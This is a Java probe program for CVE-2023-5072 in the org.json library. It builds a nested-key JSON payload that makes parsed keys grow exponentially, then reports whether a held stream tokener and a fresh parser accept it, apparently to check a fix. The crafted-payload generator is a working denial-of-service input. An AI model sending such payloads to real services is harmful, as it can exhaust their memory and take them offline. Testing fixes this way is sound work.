import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.io.Reader;
import org.json.JSONObject;
import org.json.JSONTokener;

/**
 * CVE-2023-5072: org.json accepts objects and arrays as keys and turns them into strings; nested
 * keys re-escape each other, so the key grows exponentially with the nesting depth of a short input
 * (denial of service: 127 characters here give a key of 3165, 187 characters one of 98447). The fix
 * reads a key as a simple value only. The service reads documents from a connection it opened at
 * start (a tokener held over a stream, one document per line), and parses strings directly too.
 */
public class Probe {
  static final String CRAFTED = crafted(10);

  static JSONTokener held;

  static String crafted(int depth) {
    String s = "{\"a\":1}";
    for (int i = 0; i < depth; i++) {
      s = "{\"a\":1,[" + s + "]:1}";
    }
    return s;
  }

  /** A connection that keeps sending the same line: the crafted document. */
  static final class Repeating extends Reader {
    private final String line = CRAFTED + "\n";
    private int at;

    @Override
    public int read(char[] buffer, int offset, int length) {
      for (int i = 0; i < length; i++) {
        buffer[offset + i] = line.charAt(at);
        at = (at + 1) % line.length();
      }
      return length;
    }

    @Override
    public void close() {}
  }

  static String outcome(JSONTokener tokener) {
    try {
      JSONObject parsed = new JSONObject(tokener);
      int longest = 0;
      for (String key : parsed.keySet()) {
        longest = Math.max(longest, key.length());
      }
      return "accepted(key of " + longest + " chars)";
    } catch (RuntimeException e) {
      return e.getClass().getSimpleName();
    }
  }

  static String probe() {
    String fromHeld = outcome(held);
    held.skipTo('\n'); // the next document starts on the next line
    return "held=" + fromHeld + " fresh=" + outcome(new JSONTokener(CRAFTED));
  }

  public static void main(String[] args) throws Exception {
    held = new JSONTokener(new Repeating());
    new JSONObject("{\"order\": {\"id\": 1, \"lines\": [1, 2]}}");
    probe();
    System.out.println("ready");
    BufferedReader in = new BufferedReader(new InputStreamReader(System.in));
    for (String line; (line = in.readLine()) != null; ) {
      System.out.println("RESULT " + probe());
    }
  }
}
